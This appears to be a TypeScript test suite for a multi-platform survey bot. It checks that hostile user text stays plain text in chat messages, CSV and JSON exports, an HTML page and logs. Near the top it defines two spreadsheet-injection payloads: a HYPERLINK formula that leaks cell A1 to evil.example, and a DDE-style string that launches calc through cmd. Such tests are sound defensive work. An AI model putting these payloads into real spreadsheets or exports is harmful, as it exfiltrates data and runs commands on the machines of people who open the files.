import { text as textOf } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it } from 'vitest';
import { invitePage } from '../../cli/invite-page.ts';
import type { Outbound } from '../../core/bot.ts';
import { answers } from '../../core/exports/answers.ts';
import { people } from '../../core/exports/people.ts';
import { toCsv, toJsonLines } from '../../core/exports/write.ts';
import { handleEvent } from '../../core/programmes/touchpoint.ts';
import { openDiscord } from '../bots/discord/open.ts';
import { openSlack } from '../bots/slack/open.ts';
import { openTelegram } from '../bots/telegram/open.ts';
import { hostileTexts, visible } from '../contracts/hostile.ts';
import { standing } from '../contracts/sight.ts';
import { programmeFile, roster } from '../fixtures/company.ts';
import { useDatabase } from '../support/database.ts';
import { createWorld, type World } from '../support/world.ts';

/** What people write, and what they are called, goes through every sink as text. */

const database = useDatabase();
const channel = 'C0123456789';
let world: World;

const texts = [
  ...hostileTexts,
  ['a spreadsheet formula', `=HYPERLINK("http://evil.example/?"&A1,"Click")`],
  ['another formula', "@SUM(1+9)*cmd|' /C calc'!A0"],
] as const;

const visit = `
surveys:
  - id: visit
    version: 1
    audience: customer
    questions:
      - { id: score, kind: scale, from: 1, to: 5, metric: csat, text: { en: "{name|Guest}, how was it?", ru: Как?, cs: Jak? } }
      - { id: why, kind: text, text: { en: Why?, ru: Почему?, cs: Proč? } }
      - { id: again, kind: yesno, text: { en: "You wrote {answer.why}. Coming again?", ru: Ещё?, cs: Ještě? } }
programmes:
  - { id: visit, survey: visit, who: { audience: customer }, trigger: { touchpoint: store-visit, after: 0m }, expires: 3d }
cases:
  open: [{ survey: visit, when: score <= 2 }]
`;

beforeEach(async () => {
  await database.db.dropDatabase();
  world = await createWorld(database.db, '2026-12-03T09:00:00Z');
  world.slack.directory.set('jana@example.com', 'U1');
  await world.apply(programmeFile);
  await world.apply(visit);
});

/** What a cell of a roster may hold. */
function asName(text: string): string {
  const line = text.replace(/[\p{Cc}\p{Cs}\s]+/gu, ' ').trim();
  return firstOf(line, 12).trim();
}

function firstOf(text: string, characters: number): string {
  const segments = [...new Intl.Segmenter().segment(text)];
  return segments
    .slice(0, characters)
    .map(({ segment }) => segment)
    .join('');
}

interface Sink {
  name: string;
  outbound: Outbound;
  /** What a reader must find in it. */
  shows: string;
}

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;

/** A customer of that name answers that text; everything that is said on the way. */
async function sinksOf(written: string): Promise<Sink[]> {
  const name = asName(written);
  await world.roster(
    roster([
      'm-jana,Jana Nováková,employee,en,Europe/Prague,front,praha-1,,,jana@example.com,,,',
      `c-anna,${quoted(name)},customer,en,Europe/Prague,,praha-1,,,,,,`,
    ]),
  );
  const { context } = world.core;
  const address = { platform: 'telegram', user: '501', chat: '501' } as const;
  await context.people.join('c-anna', address, world.now());
  await context.people.join('m-jana', { platform: 'slack', user: 'U1', chat: 'U1' }, world.now());
  const event = { id: 'v1', person: 'c-anna', touchpoint: 'store-visit', at: world.now() };
  await handleEvent(context, { ...event, facts: { dish: name } });
  await world.run();
  const { telegram, slack } = world;
  const asked = telegram.last('501').outbound;
  await telegram.tap('501', '1');
  await telegram.say('501', written);
  const recalled = telegram.last('501').outbound;
  await world.run();
  const card = slack.last(channel).outbound;
  await slack.tap('U1', 'Claim', { chat: channel });
  await slack.say('U1', written, slack.chat(channel)[0]?.outbound.form?.value);
  await world.run();
  const replied = telegram.last('501').outbound;
  await telegram.command('501', 'mydata');
  const mydata = telegram.last('501').outbound;
  world.pass(3_600_000);
  await slack.command('U1', 'digest');
  const digest = slack.last('U1').outbound;
  await slack.tap('U1', 'More');
  const more = slack.last('U1').outbound;
  return [
    { name: 'the name in a question', outbound: asked, shows: name },
    { name: 'an answer said again', outbound: recalled, shows: firstOf(written, 20) },
    { name: 'the name on a case card', outbound: card, shows: name },
    { name: 'the words on a case card', outbound: card, shows: firstOf(written, 20) },
    { name: 'a reply to the customer', outbound: replied, shows: firstOf(written, 20) },
    { name: 'a name and a fact in /mydata', outbound: mydata, shows: name },
    { name: 'the digest', outbound: digest, shows: '' },
    { name: 'the details of the digest', outbound: more, shows: '' },
  ];
}

const platforms = [
  () => openTelegram('long polling'),
  () => openSlack('socket'),
  () => openDiscord(),
] as const;

describe.each(texts)('%s', (_, text) => {
  const written = firstOf(text, 700);

  it('is shown literally in every message, on every platform', async () => {
    const sinks = await sinksOf(written);
    for (const open of platforms) {
      const { bot, simulator, person, other, channel: group, close } = await open();
      for (const [index, { name, outbound, shows }] of sinks.entries()) {
        const to = [person, other, group][index % 3] ?? person;
        const before = standing(simulator, to).length;
        await bot.send(to, { ...outbound, picture: null, file: null, key: '' });
        const shown = standing(simulator, to).slice(before);
        const seen = visible(shown.map((each) => each.text).join(''));
        expect(seen, name).toBe(visible(outbound.text));
        expect(seen, name).toContain(visible(shows));
      }
      await close();
    }
  });

  it('is text in every export, on the printed page, and not in the log', async () => {
    await sinksOf(written);
    const { context } = world.core;
    const csv = await textOf(toCsv(answers, answers.rows(context)));
    const cells = (parse(csv, { bom: true }) as string[][]).flat();
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulas.filter((cell) => Number.isNaN(Number(cell)))).toEqual([]);
    expect(cells.map((cell) => cell.replace(/^'/, ''))).toContain(
      written.replace(/\p{Cs}/gu, '\uFFFD'),
    );
    const lines = (await textOf(toJsonLines(people.rows(context)))).trim().split('\n');
    expect(lines.map((line) => JSON.parse(line).name)).toContain(asName(written));
    const card = { name: asName(written), audience: 'customer', language: 'en' } as const;
    const page = await invitePage(
      asName(written),
      [{ ...card, telegram: null, discord: 'x' }],
      context.say,
    );
    expect(visible(readable(page))).toContain(visible(asName(written)));
    expect(page).not.toMatch(/<(?:b|script)>/);
    expect(world.lines.join('\n')).not.toContain(firstOf(written, 12));
  });
});

/** What a browser shows of a page without scripts. */
function readable(page: string): string {
  const entities: Readonly<Record<string, string>> = {
    amp: '&',
    lt: '<',
    gt: '>',
    quot: '"',
    '#39': "'",
  };
  return page
    .replace(/<[^>]*>/g, '')
    .replace(/&(amp|lt|gt|quot|#39);/g, (whole, name: string) => entities[name] ?? whole);
}
